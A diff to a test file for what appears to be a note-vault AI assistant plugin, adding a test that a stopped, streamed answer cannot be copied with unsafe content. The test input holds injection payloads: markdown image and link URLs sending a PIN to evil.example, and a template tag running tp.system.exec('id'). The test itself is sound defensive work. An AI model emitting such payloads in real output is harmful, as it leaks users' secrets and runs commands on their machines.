@@ -165,9 +165,25 @@ describe("the pane", () => {
 		expect((pane.querySelector("button.vault-agent-ask") as HTMLButtonElement).disabled).toBe(false);
 	});
 
-	it("stops mid-citation without leaving raw syntax to show or to copy", async () => {
+	it("stops mid-citation without leaving raw syntax to show", async () => {
 		const cut: AgentEvent[] = [{ event: "delta", text: "You last fed Gus on [[Daily/2026-1", turn: 1 }, done(ANSWER, SOURCES)];
 		const loaded = await loadPlugin(cut);
+		await loaded.plugin.openAskView(null);
+		const pane = loaded.app.sidebarEl;
+		loaded.client.between = (event) => {
+			if (event.event === "delta") click(pane.querySelector("button.vault-agent-stop")!);
+		};
+		await loaded.view().ask("q");
+		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toContain("Stopped.");
+		expect(pane.querySelector(".vault-agent-answer")?.textContent?.trim()).toBe("You last fed Gus on");
+		expect(pane.querySelector(".vault-agent-stopped button.vault-agent-retry")).not.toBeNull();
+	});
+
+	it("gives no way to copy a stopped answer's unchecked text: the pane showed it without what a note would load or run", async () => {
+		const raw =
+			"Your PIN is on the board ![board](https://evil.example/b.png?pin=4931) " +
+			"[verify](https://evil.example/v?pin=4931) <%* tp.system.exec('id') %> see [[Daily/2026-11-12]] ";
+		const loaded = await loadPlugin([{ event: "delta", text: raw, turn: 1 }, done(ANSWER, SOURCES)]);
 		await loaded.plugin.openAskView(null);
 		const pane = loaded.app.sidebarEl;
 		const copied: string[] = [];
@@ -177,10 +193,12 @@ describe("the pane", () => {
 		};
 		await loaded.view().ask("q");
 		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toContain("Stopped.");
-		expect(pane.querySelector(".vault-agent-answer")?.textContent?.trim()).toBe("You last fed Gus on");
-		click(pane.querySelector("button.vault-agent-copy")!);
+		for (const button of Array.from(pane.querySelectorAll(".vault-agent-stopped button:not(.vault-agent-retry)"))) click(button);
 		await new Promise((resolve) => setTimeout(resolve, 0));
-		expect(copied).toEqual(["You last fed Gus on "]);
+		for (const text of copied) {
+			expect(text).not.toContain("evil.example");
+			expect(text).not.toContain("<%");
+		}
 	});
 
 	it("shows the run's error, and a notice when the sidecar is down or the token wrong", async () => {
